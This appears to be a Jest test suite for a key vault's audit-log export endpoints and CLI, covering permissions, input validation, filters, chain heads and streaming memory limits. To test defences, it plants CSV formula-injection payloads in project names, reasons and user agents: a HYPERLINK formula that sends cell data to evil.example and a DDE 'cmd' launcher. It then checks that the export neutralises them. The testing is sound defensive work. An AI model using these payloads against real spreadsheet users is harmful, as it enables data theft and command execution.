import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { Transform, Writable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { parse as parseCsv } from 'csv-parse/sync';
import { parse as csvParser } from 'csv-parse';
import { createTestContext, TestContext, TestUser } from '../support/test-app';
import { createApiToken, createKey, createProject, CreatedKey } from '../support/factories';
import { countRows, httpJson, insertAuditRows, RawAuditRow } from '../support/audit-helpers';
import { killAll, rssOf, runPkv, sampleRss, servePkv, ServingPkv, spawnPkv } from '../support/processes';
import { AUDIT_ACTIONS, AUDIT_OUTCOMES, AuditEventEntity } from '../../src/modules/audit/audit-event.entity';
import { chainLink, rowMac } from '../../src/modules/audit/audit-chain';
import { cliActor } from '../../src/modules/auth/actor';

const COLUMNS = ['id', 'seq', 'at', 'action', 'outcome', 'actorId', 'actorUsername', 'actorRole', 'via', 'apiTokenId', 'keyId', 'keyName', 'projectId', 'projectName', 'ownerId', 'ownerUsername', 'ip', 'userAgent', 'requestId', 'reason', 'detail'];
const NAME_COLUMNS = ['keyName', 'projectName', 'ownerUsername'];
/** A CSV export starts with a UTF-8 byte order mark, so that Excel reads it as UTF-8. */
const BOM = '\ufeff';
const parseExport = (text: string): string[][] => {
  expect(text.startsWith(BOM)).toBe(true);
  return parseCsv(text, { bom: true }) as string[][];
};
/** An exported event without the names added beside the ids: the event as the list returns it. */
const withoutNames = (e: Record<string, unknown>) => Object.fromEntries(Object.entries(e).filter(([k]) => !NAME_COLUMNS.includes(k)));
const FORMULA_START = /^[=+\-@\t\r]/;

type Event = Record<string, unknown> & { id: string; at: string };

/**
 * What a CSV cell must hold for a value from the JSON API: an apostrophe before every formula trigger that starts the
 * cell or follows whitespace, a separator or a quote (where another reader's field would start), and before a leading
 * tab or CR.
 */
function expectedCell(v: unknown): string {
  if (v === null || v === undefined) return '';
  if (typeof v === 'number') return String(v);
  const s = (typeof v === 'string' ? v : JSON.stringify(v)).replace(/(^|[\s,;|"])([=+\-@＝＋－＠])/g, "$1'$2");
  return /^[\t\r]/.test(s) ? `'${s}` : s;
}

function asText(res: NodeJS.ReadableStream & { setEncoding(e: string): void }, cb: (err: Error | null, body: string) => void): void {
  let s = '';
  res.setEncoding('utf8');
  res.on('data', (c: string) => (s += c));
  res.on('end', () => cb(null, s));
}

async function exportText(ctx: TestContext, auth: Record<string, string> | undefined, query: Record<string, string>) {
  const req = ctx.http().get(`/api/v1/audit-events/export?${new URLSearchParams(query)}`);
  if (auth) req.set(auth);
  const res = await req.buffer(true).parse(asText as never);
  return { status: res.status, headers: res.headers, text: res.body as string };
}

/** Every page of GET /audit-events for a filter, newest first, as the JSON API returns it. */
async function listAll(ctx: TestContext, as: TestUser, filter: Record<string, string> = {}): Promise<Event[]> {
  const items: Event[] = [];
  let cursor: string | null = null;
  do {
    const q: URLSearchParams = new URLSearchParams({ ...filter, limit: '200', ...(cursor ? { cursor } : {}) });
    const res: { body: { items: Event[]; nextCursor: string | null } } = await ctx.http().get(`/api/v1/audit-events?${q}`).set(as.auth).expect(200);
    items.push(...res.body.items);
    cursor = res.body.nextCursor;
  } while (cursor);
  return items;
}

/** The names the export must put beside a listed event's ids, read from the database now. */
async function currentNames(ctx: TestContext): Promise<(e: Event) => Record<string, string | null>> {
  const keys = new Map<string, string>((await ctx.db.read((m) => m.query('SELECT id, name FROM provider_keys'))).map((r: { id: string; name: string }) => [r.id, r.name]));
  const projects = new Map<string, string>((await ctx.db.read((m) => m.query('SELECT id, name FROM projects'))).map((r: { id: string; name: string }) => [r.id, r.name]));
  const users = new Map<string, string>((await ctx.db.read((m) => m.query('SELECT id, username FROM users'))).map((r: { id: string; username: string }) => [r.id, r.username]));
  const name = (map: Map<string, string>, id: unknown) => (typeof id === 'string' ? (map.get(id) ?? null) : null);
  return (e) => ({ keyName: name(keys, e.keyId), projectName: name(projects, e.projectId), ownerUsername: name(users, e.ownerId) });
}

const ndjsonEvents = (text: string): Event[] => text.split('\n').filter(Boolean).map((l) => JSON.parse(l) as Event);
const exportRows = async (ctx: TestContext) => ctx.db.read((m) => m.query("SELECT * FROM audit_events WHERE action = 'audit.export' ORDER BY id")) as Promise<Array<Record<string, any>>>;

describe('who may list, export and verify the audit trail', () => {
  let ctx: TestContext;
  const auth: Record<string, Record<string, string> | undefined> = {};

  beforeAll(async () => {
    ctx = await createTestContext();
    const admin = await ctx.user('admin');
    const auditor = await ctx.user('auditor');
    const member = await ctx.user('member');
    auth.admin = admin.auth;
    auth.auditor = auditor.auth;
    auth.member = member.auth;
    auth.auditorToken = (await createApiToken(ctx, auditor, ['audit:read'])).auth;
    auth.adminKeyHeader = { 'X-API-Key': (await createApiToken(ctx, admin, ['audit:read', 'projects:read'])).token };
    auth.adminTokenNoAudit = (await createApiToken(ctx, admin, ['projects:read', 'users:read'])).auth;
    auth.auditorTokenNoAudit = (await createApiToken(ctx, auditor, ['users:read'])).auth;
    auth.nobody = undefined;
  });
  afterAll(() => ctx.close());

  const principals: Array<[string, string, number]> = [
    ['an admin', 'admin', 200],
    ['an auditor', 'auditor', 200],
    ['an auditor’s API token with audit:read', 'auditorToken', 200],
    ['an admin’s API token with audit:read, sent as X-API-Key', 'adminKeyHeader', 200],
    ['a member', 'member', 403],
    ['an admin’s API token without audit:read', 'adminTokenNoAudit', 403],
    ['an auditor’s API token without audit:read', 'auditorTokenNoAudit', 403],
    ['a caller with no credentials', 'nobody', 401],
  ];
  const endpoints = ['/audit-events', '/audit-events/export?format=csv', '/audit-events/export?format=ndjson', '/audit-events/verify'];

  it.each(endpoints.flatMap((e) => principals.map(([who, key, status]) => [e, who, status, key] as const)))('GET %s as %s answers %i', async (endpoint, _who, status, key) => {
    const exportsBefore = (await exportRows(ctx)).length;
    const req = ctx.http().get(`/api/v1${endpoint}`);
    if (auth[key]) req.set(auth[key]!);
    const res = await req.buffer(true).parse(asText as never);

    expect(res.status).toBe(status);
    const exported = endpoint.includes('/export') && status === 200;
    expect((await exportRows(ctx)).length).toBe(exportsBefore + (exported ? 1 : 0));
    if (status === 200) return;
    const body = JSON.parse(res.body as string);
    expect(body).toMatchObject({ error: { code: status === 401 ? 'unauthorized' : 'forbidden', message: expect.any(String), requestId: res.headers['x-request-id'] } });
    if (status === 401) expect(res.headers['www-authenticate']).toMatch(/^Bearer/);
  });

  it.each([
    ['an unknown export format', '/audit-events/export?format=xlsx'],
    ['an export without a format', '/audit-events/export'],
    ['two formats at once', '/audit-events/export?format=csv&format=ndjson'],
    ['a from that is not a date', '/audit-events/export?format=csv&from=yesterday'],
    ['a to that is not a real date', '/audit-events?to=2026-13-45T00:00:00Z'],
    ['an actorId that is not a UUID', '/audit-events?actorId=alice'],
    ['a keyId that is not a UUID', '/audit-events/export?format=ndjson&keyId=123'],
    ['a projectId that is not a UUID', '/audit-events/export?format=csv&projectId=%27%20OR%201%3D1'],
    ['an unknown action', '/audit-events?action=provider_key.steal'],
    ['an unknown outcome', '/audit-events/export?format=csv&outcome=maybe'],
    ['an unknown outcome among known ones', '/audit-events?outcome=denied,maybe'],
    ['an empty outcome in a list', '/audit-events?outcome=denied,'],
    ['an unknown actorRole', '/audit-events?actorRole=root'],
    ['a byOwner that is not true or false', '/audit-events/export?format=csv&byOwner=yes'],
    ['an unknown parameter', '/audit-events/export?format=csv&sql=1'],
    ['a limit above 200', '/audit-events?limit=500'],
    ['a cursor this API never issued', '/audit-events?cursor=bm90LWEtdXVpZA'],
    ['headSeq without headHash', '/audit-events/verify?headSeq=3'],
    ['headHash without headSeq', `/audit-events/verify?headHash=${'a'.repeat(64)}`],
    ['a headSeq that is not a number', `/audit-events/verify?headSeq=three&headHash=${'a'.repeat(64)}`],
    ['a headHash that is not 64 lowercase hex', '/audit-events/verify?headSeq=3&headHash=XYZ'],
  ])('answers 400 with the error envelope, and exports nothing, for %s', async (_what, url) => {
    const exportsBefore = (await exportRows(ctx)).length;
    const res = await ctx.http().get(`/api/v1${url}`).set(auth.admin!);

    expect(res.status).toBe(400);
    expect(res.headers['content-type']).toMatch(/^application\/json/);
    expect(res.body).toEqual({ error: { code: 'validation_failed', message: expect.any(String), requestId: res.headers['x-request-id'], details: expect.any(Array) } });
    expect((await exportRows(ctx)).length).toBe(exportsBefore);
  });
});

describe('GET /audit-events/export', () => {
  let ctx: TestContext;
  let admin: TestUser;
  let auditor: TestUser;
  let owner: TestUser;
  let other: TestUser;
  let p1: { id: string; name: string };
  let p2: { id: string; name: string };
  let k1: CreatedKey;
  let k2: CreatedKey;
  const HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&A1,"open")';
  const CMD = "=cmd|' /C calc'!A0";
  const UA = "@SUM(1+1)*cmd|' /C calc'!A0";
  const REQUEST_ID = '-1-cmd-abcdefgh';
  const TRICKY = 'audit, "quoted"\nsecond line ünïcødé ✓ 鍵 🔑';

  beforeAll(async () => {
    ctx = await createTestContext();
    admin = await ctx.user('admin');
    auditor = await ctx.user('auditor');
    owner = await ctx.user('member');
    other = await ctx.user('member');
    p1 = await createProject(ctx, admin, HYPERLINK);
    p2 = await createProject(ctx, admin);
    k1 = await createKey(ctx, admin, { ownerId: owner.id, projectId: p1.id, name: '+SUM(1,2)' });
    k2 = await createKey(ctx, admin, { ownerId: other.id, projectId: p2.id, name: '@cmd' });
    await ctx.http().post(`/api/v1/provider-keys/${k1.id}/reveal`).set(owner.auth).set('User-Agent', UA).set('X-Request-Id', REQUEST_ID).send({ reason: CMD }).expect(200);
    await ctx.http().post(`/api/v1/provider-keys/${k1.id}/reveal`).set(other.auth).send({}).expect(404);
    await ctx.http().post(`/api/v1/provider-keys/${k2.id}/reveal`).set(admin.auth).send({ reason: TRICKY }).expect(200);
    await ctx.http().post('/api/v1/auth/login').send({ username: owner.username, password: 'wrong-password-123' }).expect(401);
    await ctx.http().patch(`/api/v1/projects/${p2.id}`).set(admin.auth).send({ description: 'second, "quoted"' }).expect(200);
  });
  afterAll(async () => {
    await killAll();
    await ctx.close();
  });

  it('streams every event oldest first as CSV that round-trips through a CSV parser, the same events the list returns', async () => {
    // The export seals what is pending before it starts: seal first so that the list shows the same seq numbers.
    await ctx.container.audit.chain.sealPending();
    const listed = (await listAll(ctx, auditor)).reverse();
    const res = await exportText(ctx, auditor.auth, { format: 'csv' });

    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="pkv-audit-[0-9TZ-]+\.csv"$/);
    expect(res.headers['content-length']).toBeUndefined();
    const [header, ...rows] = parseExport(res.text);
    expect(header).toEqual(COLUMNS);
    expect(rows).toHaveLength(listed.length);
    const names = await currentNames(ctx);
    rows.forEach((row, i) => expect(row).toEqual(COLUMNS.map((c) => expectedCell({ ...listed[i], ...names(listed[i]) }[c]))));
    expect(rows.map((r) => r[0])).toEqual([...rows.map((r) => r[0])].sort());
    expect(rows.map((r) => Number(r[1]))).toEqual(rows.map((_r, i) => i + 1));
  });

  it('streams the same events as NDJSON, one JSON event per line, values verbatim', async () => {
    await ctx.container.audit.chain.sealPending();
    const listed = (await listAll(ctx, auditor)).reverse();
    const res = await exportText(ctx, auditor.auth, { format: 'ndjson' });

    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('application/x-ndjson; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="pkv-audit-[0-9TZ-]+\.ndjson"$/);
    expect(res.text.endsWith('\n')).toBe(true);
    const exported = ndjsonEvents(res.text);
    expect(exported.map(withoutNames)).toEqual(listed);
    const names = await currentNames(ctx);
    exported.forEach((e, i) => expect({ keyName: e.keyName, projectName: e.projectName, ownerUsername: e.ownerUsername }).toEqual(names(listed[i])));
  });

  it('neutralises formula cells from a project name, reveal reason, user agent and request id in CSV, but keeps them verbatim in NDJSON', async () => {
    const csv = parseExport((await exportText(ctx, auditor.auth, { format: 'csv' })).text);
    const ndjson = ndjsonEvents((await exportText(ctx, auditor.auth, { format: 'ndjson' })).text);
    const col = (c: string) => COLUMNS.indexOf(c);
    const csvRow = (pred: (e: Event) => boolean) => {
      const e = ndjson.find(pred)!;
      return { e, row: csv.find((r) => r[0] === e.id)! };
    };

    const reveal = csvRow((e) => e.action === 'provider_key.reveal' && e.reason === CMD);
    expect(reveal.e).toMatchObject({ reason: CMD, userAgent: UA, requestId: REQUEST_ID });
    expect(reveal.row[col('reason')]).toBe(`'${CMD}`);
    expect(reveal.row[col('userAgent')]).toBe(`'${UA}`);
    expect(reveal.row[col('requestId')]).toBe(`'${REQUEST_ID}`);

    const project = csvRow((e) => e.action === 'project.create' && e.projectId === p1.id);
    expect(project.e.detail).toEqual({ name: HYPERLINK });
    expect(JSON.parse(project.row[col('detail')])).toEqual({ name: `'${HYPERLINK}` });

    // Names beside the ids are guarded the same way: the key '+SUM(1,2)' and the project named by a formula.
    expect(reveal.row[col('keyName')]).toBe("'+SUM(1,2)");
    expect(reveal.row[col('projectName')]).toBe(`'${HYPERLINK}`);
    expect(reveal.e).toMatchObject({ keyName: '+SUM(1,2)', projectName: HYPERLINK, ownerUsername: owner.username });

    const tricky = csvRow((e) => e.reason === TRICKY);
    expect(tricky.row[col('reason')]).toBe(TRICKY);
    expect(ndjson.find((e) => e.action === 'provider_key.create' && e.keyId === k1.id)!.detail).toMatchObject({ name: '+SUM(1,2)' });

    for (const row of csv) for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
  });

  it('records each export as an audit.export row naming the actor, format and filters, outside the export it describes', async () => {
    const token = await createApiToken(ctx, auditor, ['audit:read']);
    const before = (await exportRows(ctx)).map((r) => r.id);

    const bySession = await exportText(ctx, auditor.auth, { format: 'csv' });
    const byToken = await exportText(ctx, token.auth, { format: 'ndjson', action: 'provider_key.reveal', outcome: 'success', keyId: k1.id, from: '2000-01-01T00:00:00.000Z' });
    const added = (await exportRows(ctx)).filter((r) => !before.includes(r.id));

    expect(added).toHaveLength(2);
    expect(added[0]).toMatchObject({ outcome: 'success', actor_id: auditor.id, actor_username: auditor.username, actor_role: 'auditor', via: 'session', api_token_id: null });
    const head = { seq: expect.any(Number), hash: expect.stringMatching(/^[0-9a-f]{64}$/) };
    expect(JSON.parse(added[0].detail)).toEqual({ format: 'csv', filter: {}, head });
    // The file ends exactly at the head the audit row names: the last exported row is that link of the chain.
    const lastRow = parseExport(bySession.text).slice(-1)[0];
    const named = JSON.parse(added[0].detail).head;
    expect(Number(lastRow[1])).toBe(named.seq);
    const [link] = await ctx.db.read((m) => m.query('SELECT chain_hash FROM audit_events WHERE seq = ?', [named.seq]));
    expect(link.chain_hash).toBe(named.hash);
    expect(added[1]).toMatchObject({ outcome: 'success', actor_id: auditor.id, via: 'api_token', api_token_id: token.id });
    expect(JSON.parse(added[1].detail)).toEqual({ format: 'ndjson', filter: { action: 'provider_key.reveal', outcome: 'success', keyId: k1.id, from: '2000-01-01T00:00:00.000Z' }, head });
    expect(bySession.text).not.toContain(added[0].id);
    expect(ndjsonEvents(byToken.text).map((e) => e.id)).toEqual([expect.any(String)]);

    const listed = await listAll(ctx, admin, { action: 'audit.export' });
    expect(listed.map((e) => e.id)).toEqual(expect.arrayContaining(added.map((r) => r.id)));
  });

  it('answers a filter that matches nothing with a bare CSV header, or an empty NDJSON body', async () => {
    const csv = await exportText(ctx, auditor.auth, { format: 'csv', action: 'keyring.rotate' });
    const ndjson = await exportText(ctx, auditor.auth, { format: 'ndjson', action: 'keyring.rotate' });

    expect(csv).toMatchObject({ status: 200, text: `${BOM}${COLUMNS.join(',')}\r\n` });
    expect(ndjson).toMatchObject({ status: 200, text: '' });
  });

  type Filter = Record<string, string>;
  /** Each filter, with an independent SQL statement of what it must select. */
  const filters: Array<[string, () => Promise<{ filter: Filter; where: string; params: unknown[] }>]> = [
    ['action', async () => ({ filter: { action: 'provider_key.reveal' }, where: "action = 'provider_key.reveal'", params: [] })],
    ['outcome', async () => ({ filter: { outcome: 'denied' }, where: "outcome = 'denied'", params: [] })],
    ['actorId', async () => ({ filter: { actorId: owner.id }, where: 'actor_id = ?', params: [owner.id] })],
    ['keyId', async () => ({ filter: { keyId: k1.id }, where: 'key_id = ?', params: [k1.id] })],
    ['projectId', async () => ({ filter: { projectId: p2.id }, where: 'project_id = ?', params: [p2.id] })],
    ['action and outcome', async () => ({ filter: { action: 'auth.login', outcome: 'success' }, where: "action = 'auth.login' AND outcome = 'success'", params: [] })],
    ['two outcomes', async () => ({ filter: { outcome: 'denied,rate_limited' }, where: "outcome IN ('denied', 'rate_limited')", params: [] })],
    ['actorRole', async () => ({ filter: { actorRole: 'admin' }, where: "actor_role = 'admin'", params: [] })],
    ['byOwner=true', async () => ({ filter: { byOwner: 'true' }, where: 'actor_id = owner_id', params: [] })],
    ['byOwner=false', async () => ({ filter: { byOwner: 'false' }, where: 'owner_id IS NOT NULL AND (actor_id IS NULL OR actor_id <> owner_id)', params: [] })],
    [
      'reveals by an admin of someone else’s key',
      async () => ({ filter: { action: 'provider_key.reveal', actorRole: 'admin', byOwner: 'false' }, where: "action = 'provider_key.reveal' AND actor_role = 'admin' AND actor_id <> owner_id", params: [] }),
    ],
    ...(['from', 'to', 'from and to'] as const).map(
      (which) =>
        [
          which,
          async () => {
            const ats: Array<{ at: string | number }> = await ctx.db.read((m) => m.query('SELECT `at` FROM audit_events ORDER BY id'));
            const lo = Number(ats[Math.floor(ats.length / 4)].at);
            const hi = Number(ats[Math.floor((3 * ats.length) / 4)].at);
            const iso = (ms: number) => new Date(ms).toISOString();
            if (which === 'from') return { filter: { from: iso(lo) }, where: '`at` >= ?', params: [lo] };
            if (which === 'to') return { filter: { to: iso(hi) }, where: '`at` < ?', params: [hi] };
            return { filter: { from: iso(lo), to: iso(hi) }, where: '`at` >= ? AND `at` < ?', params: [lo, hi] };
          },
        ] as [string, () => Promise<{ filter: Filter; where: string; params: unknown[] }>],
    ),
  ];

  it.each(filters)('narrows the export by %s exactly as it narrows the list', async (_name, make) => {
    const { filter, where, params } = await make();
    // Each export adds its own audit.export row (which a from-only filter matches), so the oracle is re-read before each.
    const expected = async () => (await ctx.db.read((m) => m.query(`SELECT id FROM audit_events WHERE ${where} ORDER BY id`, params))).map((r: { id: string }) => r.id);
    const beforeList = await expected();
    const listed = (await listAll(ctx, auditor, filter)).map((e) => e.id).reverse();
    const csv = parseExport((await exportText(ctx, auditor.auth, { ...filter, format: 'csv' })).text).slice(1).map((r) => r[0]);
    const beforeNdjson = await expected();
    const ndjson = ndjsonEvents((await exportText(ctx, auditor.auth, { ...filter, format: 'ndjson' })).text).map((e) => e.id);

    expect(beforeList.length).toBeGreaterThan(0);
    expect(beforeList.length).toBeLessThan(await countRows(ctx));
    expect(listed).toEqual(beforeList);
    expect(csv).toEqual(beforeList);
    expect(ndjson).toEqual(beforeNdjson);
  });

  describe('pkv audit export', () => {
    it('writes the trail to --out as a 0600 CSV file and records an audit.export row made through the CLI', async () => {
      const out = path.join(ctx.tdb.dir, 'trail.csv');
      const before = await countRows(ctx);
      const res = await runPkv(['audit', 'export', '--format', 'csv', '--out', out], ctx.env);

      expect(res.code).toBe(0);
      expect(res.stdout).toBe('');
      expect(fs.statSync(out).mode & 0o777).toBe(0o600);
      const [header, ...rows] = parseExport(fs.readFileSync(out, 'utf8'));
      expect(header).toEqual(COLUMNS);
      expect(rows).toHaveLength(before);
      // Counted in events, not lines: one reason holds a newline.
      expect(rows.some((r) => r.some((cell) => cell.includes('\n')))).toBe(true);
      // stderr carries the structured log (the audit line) and then the one human line.
      expect(res.stderr.split('\n').filter((l) => l && !l.startsWith('{'))).toEqual([`wrote ${before} event(s) to ${out}`]);
      const [cliRow] = (await exportRows(ctx)).slice(-1);
      expect(cliRow).toMatchObject({ outcome: 'success', actor_id: null, actor_username: 'cli', via: 'cli', user_agent: 'pkv-cli' });
      expect(JSON.parse(cliRow.detail)).toMatchObject({ format: 'csv', filter: {}, head: { seq: before } });
      expect(rows.map((r) => r[0])).not.toContain(cliRow.id);
    }, 60_000);

    it('keeps an --out file that already existed private (0600) when it overwrites it', async () => {
      const out = path.join(ctx.tdb.dir, 'existing.csv');
      fs.writeFileSync(out, 'old contents\n', { mode: 0o644 });
      fs.chmodSync(out, 0o644);
      const res = await runPkv(['audit', 'export', '--format', 'csv', '--out', out], ctx.env);

      expect(res.code).toBe(0);
      expect(fs.readFileSync(out, 'utf8')).toMatch(/^\ufeffid,seq,at,/);
      expect(fs.statSync(out).mode & 0o777).toBe(0o600);
    }, 60_000);

    it('prints only the --from/--to window as NDJSON on stdout and records that window', async () => {
      const ats: Array<{ at: string | number }> = await ctx.db.read((m) => m.query('SELECT `at` FROM audit_events ORDER BY id'));
      const lo = Number(ats[2].at);
      const hi = Number(ats[ats.length - 3].at);
      const expected: Array<{ id: string }> = await ctx.db.read((m) => m.query('SELECT id FROM audit_events WHERE `at` >= ? AND `at` < ? ORDER BY id', [lo, hi]));
      const from = new Date(lo).toISOString();
      const to = new Date(hi).toISOString();
      const res = await runPkv(['audit', 'export', '--format', 'ndjson', '--from', from, '--to', to], ctx.env);

      expect(res.code).toBe(0);
      expect(ndjsonEvents(res.stdout).map((e) => e.id)).toEqual(expected.map((r) => r.id));
      const [cliRow] = (await exportRows(ctx)).slice(-1);
      expect(JSON.parse(cliRow.detail)).toMatchObject({ format: 'ndjson', filter: { from, to } });
    }, 60_000);

    it('narrows by --action, --outcome and --key-id like the HTTP filters', async () => {
      const expected: Array<{ id: string }> = await ctx.db.read((m) =>
        m.query("SELECT id FROM audit_events WHERE action = 'provider_key.reveal' AND outcome = 'success' AND key_id = ? ORDER BY id", [k1.id]),
      );
      expect(expected.length).toBeGreaterThan(0);
      const res = await runPkv(['audit', 'export', '--format', 'ndjson', '--action', 'provider_key.reveal', '--outcome', 'success', '--key-id', k1.id], ctx.env);
      expect(res.code).toBe(0);
      expect(ndjsonEvents(res.stdout).map((e) => e.id)).toEqual(expected.map((r) => r.id));
      const [cliRow] = (await exportRows(ctx)).slice(-1);
      expect(JSON.parse(cliRow.detail)).toMatchObject({ filter: { action: 'provider_key.reveal', outcome: 'success', keyId: k1.id } });
    }, 60_000);

    it.each([
      ['--key-id', ['--key-id', 'not-a-uuid'], /^pkv: --key-id: must be a UUID$/],
      ['--actor-id', ['--actor-id', '123'], /^pkv: --actor-id: must be a UUID$/],
      ['--action', ['--action', 'provider_key.steal'], /--action/],
    ])('refuses a bad %s with exit 2 and records nothing', async (_flag, args, line) => {
      const before = await countRows(ctx);
      const res = await runPkv(['audit', 'export', '--format', 'csv', ...args], ctx.env);
      expect(res.code).toBe(2);
      expect(res.stderr.trim()).toMatch(line);
      expect(await countRows(ctx)).toBe(before);
    }, 60_000);

    it('refuses an unknown format or a bad --from with exit 2 and records nothing', async () => {
      const before = await countRows(ctx);
      expect((await runPkv(['audit', 'export', '--format', 'xlsx'], ctx.env)).code).toBe(2);
      const badFrom = await runPkv(['audit', 'export', '--format', 'csv', '--from', 'last tuesday'], ctx.env);
      expect(badFrom.code).toBe(2);
      expect(badFrom.stderr).toMatch(/--from/);
      expect(await countRows(ctx)).toBe(before);
    }, 60_000);
  });
});

const BIG = 200_000;
const MEMORY_BOUND = 100 * 1024 * 1024;
const HEAP_CAP_MB = 64;

/** Deterministic, valid-looking audit row i of the bulk load (UUIDv7-shaped ids, one millisecond apart). */
function bulkRow(i: number, base: number): Omit<RawAuditRow, 'seq' | 'chain_hash' | 'row_mac'> {
  const hex = (n: number, len: number) => n.toString(16).padStart(len, '0').slice(-len);
  const ts = hex(base + i, 12);
  const uuid = (kind: number, n: number) => `${hex(kind, 8)}-${hex(n >> 16, 4)}-7${hex(n, 3)}-8${hex(kind, 3)}-${hex(n * 7919, 12)}`;
  const special = i % 25_000 === 12_345;
  const via = ['session', 'api_token', 'cli'][i % 3];
  return {
    id: `${ts.slice(0, 8)}-${ts.slice(8, 12)}-7${hex(i, 3)}-8${hex(i >> 12, 3)}-${hex(i, 12)}`,
    at: base + i,
    action: AUDIT_ACTIONS[i % AUDIT_ACTIONS.length],
    outcome: AUDIT_OUTCOMES[i % AUDIT_OUTCOMES.length],
    actor_id: uuid(1, i % 50),
    actor_username: `user-${i % 50}`,
    actor_role: ['admin', 'member', 'auditor'][i % 3],
    via,
    api_token_id: via === 'api_token' ? uuid(2, i % 40) : null,
    key_id: uuid(3, i % 200),
    project_id: uuid(4, i % 20),
    owner_id: uuid(1, (i + 7) % 50),
    ip: `10.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}`,
    user_agent: special ? '=HYPERLINK("http://evil.example","x")' : `Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 pkv-load/${i}`,
    request_id: uuid(5, i),
    reason: special ? 'multi\nline, "quoted" ünïcødé ✓ 鍵 🔑' : i % 7 === 0 ? `ticket #${i}, approved by "ops"` : null,
    detail: JSON.stringify(special ? { name: '@SUM(1+1)', note: 'tab\there' } : { name: `key-${i % 200}`, provider: 'openai', region: 'eu-west-1', note: `bulk load row ${i} of the export test` }),
  };
}

/** The CSV cells row i must come back as. */
function bulkCells(i: number, base: number, seq: number): string[] {
  const r = bulkRow(i, base);
  const values: unknown[] = [
    r.id, seq, new Date(Number(r.at)).toISOString(), r.action, r.outcome, r.actor_id, r.actor_username, r.actor_role, r.via, r.api_token_id,
    r.key_id, null, r.project_id, null, r.owner_id, null, r.ip, r.user_agent, r.request_id, r.reason, JSON.parse(String(r.detail)),
  ];
  return values.map(expectedCell);
}

/** GETs a URL over real HTTP, stalling the read for stallMs after the first MiB so the server must wait (backpressure). */
async function streamExport(url: string, headers: Record<string, string>, sink: NodeJS.WritableStream, stallMs: number): Promise<{ status: number; bytes: number; chunked: boolean }> {
  const res = await new Promise<http.IncomingMessage>((resolve, reject) => {
    const req = http.get(url, { headers }, resolve);
    req.on('error', reject);
    req.setTimeout(240_000, () => req.destroy(new Error('export timed out')));
  });
  let bytes = 0;
  let stalled = false;
  const stall = new Transform({
    transform(chunk: Buffer, _enc, cb) {
      bytes += chunk.length;
      if (!stalled && bytes > 1024 * 1024) {
        stalled = true;
        setTimeout(() => cb(null, chunk), stallMs);
      } else cb(null, chunk);
    },
  });
  await pipeline(res, stall, sink);
  return { status: res.statusCode ?? 0, bytes, chunked: res.headers['transfer-encoding'] === 'chunked' };
}

describe(`exporting ${BIG.toLocaleString('en')} events from a spawned server`, () => {
  let ctx: TestContext;
  let server: ServingPkv;
  let auth: Record<string, string>;
  let base: number;
  let firstSeq: number;
  const samples = [0, 1, 6, 7, 12_345, 37_345, 99_999, 100_000, 137_345, 187_345, BIG - 1];

  beforeAll(async () => {
    ctx = await createTestContext();
    const auditor = await ctx.user('auditor');
    const chain = ctx.container.audit.chain;
    await chain.sealPending();
    const head = await chain.head();
    // Rows are written straight through SQL, but sealed with the vault's own key so the trail stays verifiable.
    const key = await ctx.container.keyring.systemKey('audit_chain');
    base = Date.now() - BIG - 3_600_000;
    firstSeq = head.seq + 1;
    let prev = head.hash;
    for (let start = 0; start < BIG; start += 10_000) {
      const batch: RawAuditRow[] = [];
      for (let i = start; i < Math.min(BIG, start + 10_000); i++) {
        const r = bulkRow(i, base);
        const entity = Object.assign(new AuditEventEntity(), {
          id: r.id, at: new Date(Number(r.at)), action: r.action, outcome: r.outcome, actorId: r.actor_id, actorUsername: r.actor_username, actorRole: r.actor_role,
          via: r.via, apiTokenId: r.api_token_id, keyId: r.key_id, projectId: r.project_id, ownerId: r.owner_id, ip: r.ip, userAgent: r.user_agent,
          requestId: r.request_id, reason: r.reason, detail: r.detail,
        });
        const mac = rowMac(key, entity);
        const seq = firstSeq + i;
        prev = chainLink(key, prev, seq, mac);
        batch.push({ ...r, seq, chain_hash: prev, row_mac: mac });
      }
      await insertAuditRows(ctx, batch);
    }
    await ctx.db.transaction((tx) => tx.query('UPDATE audit_chain_head SET seq = ?, hash = ? WHERE id = 1', [firstSeq + BIG - 1, prev]));

    // A capped heap makes retention fatal (the CSV alone is larger than the cap) instead of hiding in lazy GC.
    server = await servePkv({ ...ctx.env, NODE_OPTIONS: `--max-old-space-size=${HEAP_CAP_MB}` });
    const login = await httpJson(server.url, 'POST', '/auth/login', { body: { username: auditor.username, password: auditor.password } });
    expect(login.status).toBe(200);
    auth = { Authorization: `Bearer ${login.body.accessToken as string}` };
  }, 300_000);
  afterAll(async () => {
    await killAll();
    await ctx.close();
  });

  it('streams the whole trail as CSV with flat server memory while the client stalls, and it round-trips through csv-parse', async () => {
    const warm = await httpJson(server.url, 'GET', '/audit-events?limit=200', { headers: auth });
    expect(warm.status).toBe(200);
    const expectedRows = await countRows(ctx);
    const wanted = new Map(samples.map((i) => [bulkRow(i, base).id, i]));
    const found = new Map<number, string[]>();
    let records = 0;
    let header: string[] | undefined;
    const parser = csvParser({ bom: true });
    parser.on('data', (record: string[]) => {
      if (!header) header = record;
      else {
        records++;
        const i = wanted.get(record[0]);
        if (i !== undefined) found.set(i, record);
      }
    });

    const baseline = rssOf(server.pid);
    const sampler = sampleRss(server.pid);
    const res = await streamExport(`${server.url}/api/v1/audit-events/export?format=csv`, auth, parser, 5000).finally(() => sampler.stop());
    const { peak, samples: taken } = sampler.stop();

    expect(res).toMatchObject({ status: 200, chunked: true });
    expect(res.bytes).toBeGreaterThan(MEMORY_BOUND);
    expect(taken).toBeGreaterThan(50);
    expect(peak - baseline).toBeLessThan(MEMORY_BOUND);
    expect(header).toEqual(COLUMNS);
    expect(records).toBe(expectedRows);
    for (const i of samples) expect(found.get(i)).toEqual(bulkCells(i, base, firstSeq + i));
    expect(found.get(12_345)![COLUMNS.indexOf('userAgent')]).toBe('\'=HYPERLINK("http://evil.example","x")');
  }, 300_000);

